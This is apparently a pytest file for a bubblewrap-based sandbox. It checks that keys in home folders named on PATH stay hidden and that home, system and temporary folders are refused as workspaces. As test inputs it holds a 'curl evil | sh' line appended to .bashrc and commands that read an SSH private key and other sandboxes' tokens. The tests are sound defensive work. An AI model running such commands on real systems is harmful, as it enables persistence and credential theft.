"""Home folders and sandboxes: never shown through ``PATH``, never the workspace.

bubblewrap's minimal root binds the ``PATH`` folders outside the system ones (a virtualenv's
``bin``, a pyenv), read-only, so that the user's tools work inside. A ``PATH`` that names a
home folder itself (``export PATH=$HOME:$PATH``), or a folder holding homes, would show
``~/.ssh`` and ``~/.aws`` to every command. And the workspace is the run's folder unless the
config says otherwise: a run started in a home would hand its startup files to the code.
"""

from __future__ import annotations

import os
import tempfile
from pathlib import Path

import pytest

from jianmu.errors import SandboxUnavailableError
from jianmu.execution import _bwrap
from jianmu.execution._protect import workspace_problem
from jianmu.execution.local_sandbox import LocalSandbox, bwrap_available

pytestmark = pytest.mark.anyio


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A home with a key, on ``PATH`` (and an ordinary tool folder in it, also on ``PATH``)."""
    home = tmp_path / "home" / "bob"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("PRIVATE KEY")
    (home / "bin").mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("PATH", os.pathsep.join([str(home), str(home.parent), str(home / "bin"),
                                                os.environ.get("PATH", "/usr/bin:/bin")]))
    return home


def test_home_folders_are_never_bound(home: Path) -> None:
    kept = _bwrap.python_paths(os.environ["PATH"])
    assert str(home) not in kept and str(home.parent) not in kept
    assert str(home / "bin") in kept  # a tool folder inside a home still works


@pytest.mark.skipif(not bwrap_available(network=False), reason="no usable bubblewrap")
@pytest.mark.parametrize("warm", [True, False], ids=["warm", "cold"])
async def test_a_command_cannot_read_a_key_in_a_home_on_path(
    home: Path, tmp_path: Path, warm: bool
) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    async with LocalSandbox(ws, timeout=30, warm=warm) as box:
        result = await box.exec(["cat", str(home / ".ssh" / "id_ed25519")])
    assert "PRIVATE KEY" not in result.stdout, result
    assert result.exit_code != 0, result


# -- a home as the workspace: `jianmu run` started in ~ (root's cwd is often /root) ----------

@pytest.mark.skipif(not bwrap_available(network=False), reason="no usable bubblewrap")
async def test_a_home_folder_is_never_a_sandbox_workspace(home: Path) -> None:
    """Writable, ``~/.bashrc`` and ``~/.ssh/authorized_keys`` run (or let in) whoever wrote
    them, outside the sandbox; as root the whole home would also be granted to the
    sandbox's user with an ACL that stays."""
    box = LocalSandbox(home, timeout=30)
    try:
        with pytest.raises(SandboxUnavailableError, match="is a home folder"):
            await box.exec(["sh", "-c", "echo 'curl evil | sh' >> .bashrc"])
    finally:
        await box.close()
    assert not (home / ".bashrc").exists()
    for holder in (home.parent, home.parent.parent):
        box = LocalSandbox(holder, timeout=30)
        try:
            with pytest.raises(SandboxUnavailableError, match="holds a home folder"):
                await box.exec(["true"])
        finally:
            await box.close()


def test_system_folders_are_never_a_workspace(home: Path) -> None:
    for folder in ("/", "/etc", "/usr", "/var", "/root", "/home"):
        assert workspace_problem(Path(folder)) is not None, folder
    assert workspace_problem(home / "project") is None  # a project in a home is fine


def test_folders_of_the_host_are_never_a_workspace_but_below_them_is(tmp_path: Path) -> None:
    for folder in ("/opt", "/srv", "/mnt", "/media", "/run", "/boot", "/tmp"):
        assert workspace_problem(Path(folder)) is not None, folder
    for folder in ("/opt/app", "/srv/site", "/mnt/disk/project", "/tmp/project", tmp_path):
        assert workspace_problem(Path(folder)) is None, folder


# -- the host's temporary folder as the workspace: a run started in /tmp -------------------

@pytest.mark.skipif(not bwrap_available(network=False), reason="no usable bubblewrap")
async def test_the_temporary_folder_is_never_a_sandbox_workspace(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every sandbox keeps its private ``/tmp`` in the host's temporary folder: one whose
    workspace is that folder (or holds it) would read the others' (and other runs'
    workspaces, the host's sockets), and its start would grant its user all of it."""
    # a temporary folder of this test's own standing for the host's: never the real /tmp
    host_tmp = tmp_path / "host-tmp"
    host_tmp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(host_tmp))
    victim = LocalSandbox(host_tmp / "victim-project", timeout=30)
    try:
        result = await victim.exec(["sh", "-c", "echo PRIVATE > /tmp/token && echo ok"])
        assert result.stdout.strip() == "ok", result  # a project below it is a workspace
        for folder in (host_tmp, tmp_path):  # the folder itself, and one holding it
            box = LocalSandbox(folder, timeout=30)
            try:
                with pytest.raises(SandboxUnavailableError, match="temporary folder"):
                    await box.exec(["sh", "-c", f"cat {host_tmp}/jianmu-sandbox-*/token"])
            finally:
                await box.close()
    finally:
        await victim.close()
    assert workspace_problem(Path(tempfile.gettempdir())) is not None
